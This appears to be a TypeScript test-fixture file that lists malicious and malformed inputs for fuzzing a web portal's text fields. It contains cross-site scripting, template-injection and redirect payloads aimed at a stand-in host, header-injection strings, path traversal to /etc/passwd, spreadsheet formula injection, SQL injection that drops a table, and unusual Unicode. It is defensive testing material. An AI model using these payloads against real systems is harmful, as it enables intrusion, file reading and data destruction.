/** What somebody who means harm, or only a strange keyboard, may put into any field of text. */

/** A page that ran any of these would say so here. */
export const RAN = 'celaka'
const RUN = `window.${RAN}=1`

export const SCRIPTS = [
  `"><script>${RUN}</script>`,
  `'><img src=x onerror="${RUN}">`,
  `</title></textarea></select><svg onload=${RUN}>`,
  `--></style></script><iframe srcdoc="<script>parent.${RAN}=1</script>">`,
  `" autofocus onfocus="${RUN}" data-x="`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  `<form action=https://jahat.example><button>Kirim`,
  `<meta http-equiv=refresh content="0;url=https://jahat.example">`,
  `<base href=https://jahat.example/><link rel=stylesheet href=//jahat.example/x.css>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;script&#62;`,
]

export const LINES = [
  `baris\r\nSet-Cookie: ${RAN}=1\r\n\r\n<script>${RUN}</script>`,
  `baris%0d%0aSet-Cookie:%20${RAN}=1`,
]

export const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\data\\balai.db',
  '%2e%2e%2f%2e%2e%2f',
  '/wilayah/kelola?x=',
  '//jahat.example/',
]

/** Each of these a spreadsheet would reckon with. */
export const FORMULAS = [
  `=cmd|'/C calc'!A0`,
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '＝1+1',
  `=HYPERLINK("https://jahat.example","x")`,
]

export const LETTERS = [
  'Loket \u202eterbalik \u2066dan\u2069 seterusnya',
  'Za\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030blgo\u0310\u0311\u0312\u0313\u0314\u031a',
  'Nol\u200blebar\u200d\ufeff\u2060dan\u00ad lain',
  'Keluarga 👨‍👩‍👧‍👦 🏳️‍🌈 👍🏿 dan Ꮳ𠜎 İıſß',
  'مرحبا بالعالم ﷽ ﷺ',
  'Panjang' + 'sekalitanpaspasi'.repeat(6),
  'W'.repeat(118),
  'Kendali \u0001\u0007\u001b[31m\u007f\u0085 \u2028 baris',
  'Bukan karakter \ufffe\uffff \ud800 setengah',
]

export const DATABASES = [
  `'; drop table survey; --`,
  `Robert\\'); --`,
  '%_%',
  '$1 ? :nama @nama',
  '__proto__',
  'constructor',
  'null',
]

/** Words that stand for something inside the portal. */
export const MARKS = ['__SUBMISSION_KEY__ __SIGNED_TIME__', 'undefined', '[object Object]', '[slug]']

export const ATTACKS = [...SCRIPTS, ...LINES, ...PATHS, ...FORMULAS, ...LETTERS, ...DATABASES, ...MARKS]
